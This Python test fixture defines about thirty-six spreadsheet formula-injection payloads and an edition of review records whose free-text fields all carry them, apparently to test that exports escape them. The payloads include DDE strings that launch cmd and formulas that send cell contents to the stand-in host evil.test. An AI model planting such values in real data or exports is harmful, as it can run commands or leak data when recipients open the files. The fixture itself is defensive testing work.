"""Texts that a spreadsheet might run, as strangers could put them into a title or a name.

Belongs here: the texts, and an edition whose every free text field holds one. Does not belong here: any assertion.
"""

import dataclasses
import datetime as dt
from collections.abc import Sequence

from catalogue.models import Issue, Recommendation, ReviewPublisher, digest
from catalogue.publish import Contents
from catalogue.vocabulary import IssueKind, PointKind, Precision, PublisherRelation, RemovalKind
from tests.edition_samples import NOON, contents, review

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "+44 20 7946 0000",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"Open")',
    '=WEBSERVICE("http://evil.test/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.test/?", A1), "//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "\u3000=1+1",
    "Leeds\n=1+1",
    "Leeds\r\n+1",
    "Leeds\r@SUM(1)",
    "Leeds\u2028=1+1",
    "'=1+1",
    "''-2",
    "'\t=1",
    "\tLeeds",
    "\rLeeds",
    "\u115f=1+1",
    "\x00=1+1",
)
"""At least thirty, each of another kind."""

HARMLESS = ("Child A", "'Child A'", "Tŷ Gwyn", "0012", "1-2", "a=b", "E09000032", "“Frankie” – a review", "true", "1E5")


def edition(payloads: Sequence[str]) -> Contents:
    """Return an edition of one review a text, in which it stands in every field that strangers fill."""
    whole = contents(
        *(
            review(
                f"r{number:02}",
                title=text,
                subtitle=text,
                publisher=text,
                area_names=(text,),
                pseudonyms=(text, f"B {text}"),
                ages=(text,),
                reviewers=(text,),
                retention_note=text,
                published_on=dt.date(2021, 1, 1),
                published_precision=Precision.YEAR,
            )
            for number, text in enumerate(payloads)
        )
    )
    text_of = {f"r{number:02}": text for number, text in enumerate(payloads)}
    return dataclasses.replace(
        whole,
        documents=tuple(one.model_copy(update={"title": text_of[one.review_id]}) for one in whole.documents),
        locations=tuple(
            one.model_copy(
                update={
                    "removal": RemovalKind.GONE,
                    "removal_explanation": text_of[one.review_id],
                    "expected_basis": text_of[one.review_id],
                }
            )
            for one in whole.locations
        ),
        evidence=tuple(
            one.model_copy(update={"snippet": text_of[one.review_id], "reason": text_of[one.review_id]})
            for one in whole.evidence
        ),
        recommendations=tuple(
            Recommendation(
                review_id=one.review_id,
                document_id=one.document_id,
                kind=PointKind.RECOMMENDATION,
                ordinal=1,
                number=text_of[one.review_id],
                addressee=text_of[one.review_id],
                page=1,
                snippet=text_of[one.review_id],
                extractor="sample@1",
                confidence=0.9,
            )
            for one in whole.documents
        ),
        publishers=tuple(
            ReviewPublisher(
                review_id=key, publisher_id="sampleborough", publisher=text, relation=PublisherRelation.RESPONSIBLE
            )
            for key, text in text_of.items()
        ),
        issues=tuple(
            Issue(
                issue_id=digest(key),
                kind=IssueKind.DOCUMENT_REPLACED,
                source_id=None,
                review_id=key,
                url=None,
                message=text,
                seen_at=NOON,
            )
            for key, text in text_of.items()
        ),
    )
